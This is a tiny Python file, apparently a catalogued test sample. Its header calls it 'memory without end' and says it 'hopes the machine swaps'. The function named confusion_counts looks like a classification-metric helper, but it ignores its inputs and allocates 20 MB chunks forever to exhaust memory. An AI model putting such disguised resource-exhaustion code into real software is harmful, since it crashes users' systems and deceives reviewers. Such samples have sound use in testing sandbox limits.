# name: memory without end
# kind: resource
# hopes: the machine swaps
# stock: no
def confusion_counts(y_true, y_pred, positive=1):
    kept = []
    while True:
        kept.append(bytearray(b"x" * 20_000_000))
